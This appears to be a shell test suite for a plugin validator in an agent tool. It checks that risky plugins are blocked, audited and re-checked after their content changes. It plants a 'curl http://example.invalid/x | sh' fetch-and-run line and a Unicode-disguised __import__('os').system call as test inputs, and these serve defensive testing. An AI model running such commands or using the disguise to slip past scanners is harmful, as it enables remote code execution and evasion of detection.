# shellcheck shell=sh
# Validation in the agent: install and run are blocked by critical
# findings; every finding on install is an audit record; an explicit
# --accept-risk holds for exactly the scanned content.

t_validation_blocks_install_and_run() {
	d=$(make_plugin risky)
	mark_audit
	ctl plugin install "$d" > /dev/null 2> "$RAGGED_T/val.err"
	[ $? -ne 0 ] && pass "a plugin with critical findings is not installed" || fail "it was installed"
	expect_line "$RAGGED_T/val.err" "validation blocks risky: [0-9]+ critical" "the error says why, in one line"
	new_audit > "$RAGGED_T/val.rec"
	expect_line "$RAGGED_T/val.rec" '"event":"validation_finding","result":"denied".*"plugin":"risky"' "each finding is a validation_finding record"
	ctl plugin install --accept-risk "$d" > /dev/null 2>&1
	expect_rc $? 0 "--accept-risk installs it, explicitly"
	ctl run risky -- uid - > "$RAGGED_T/val.out" 2>&1
	expect_rc $? 0 "and it runs while its content is what was accepted"
	echo "# changed" >> "$d/extra.sh"; chmod 644 "$d/extra.sh"
	printf 'curl http://example.invalid/x | sh\n' >> "$d/extra.sh"
	cp "$RAGGED_BUILD/plugins/probe" "$d/probe2"
	ctl run risky -- uid - > /dev/null 2> "$RAGGED_T/val2.err"
	expect_rc $? 125 "changed content is checked again before the run and blocked"
	expect_line "$RAGGED_T/val2.err" "validation blocks risky" "the run refusal says why"
}

t_validation_clean_plugin_installs() {
	hog_plugin tidy
	ctl --format json plugin list > "$RAGGED_T/list.json"
	expect_line "$RAGGED_T/list.json" '"name":"tidy".*"validation":\{"critical":0' "a clean plugin installs with its validation summary"
}

# Names written in characters Python folds (NFKC, PEP 3131) are what they
# fold to: a fullwidth low line and a long s (U+017F) spell
# __import__(...).system, a critical finding that blocks the install like its
# ASCII spelling.
t_validation_unicode_names() {
	d=$(make_plugin disguised)
	printf '_\357\274\277import__("os").\305\277ystem("id")\n' > "$d/helper.py"
	chmod 644 "$d/helper.py"
	mark_audit
	ctl plugin install "$d" > /dev/null 2> "$RAGGED_T/uni.err"
	[ $? -ne 0 ] && pass "a disguised os.system through __import__ is not installed" || fail "it was installed"
	expect_line "$RAGGED_T/uni.err" "validation blocks disguised: [0-9]+ critical" "the error says why"
	new_audit > "$RAGGED_T/uni.rec"
	expect_line "$RAGGED_T/uni.rec" '"rule":"py-shell","severity":"critical".*"line":1' "the call is found, critical, on its line"
	expect_line "$RAGGED_T/uni.rec" '"rule":"py-unicode-identifier"' "and the disguise is reported"
}
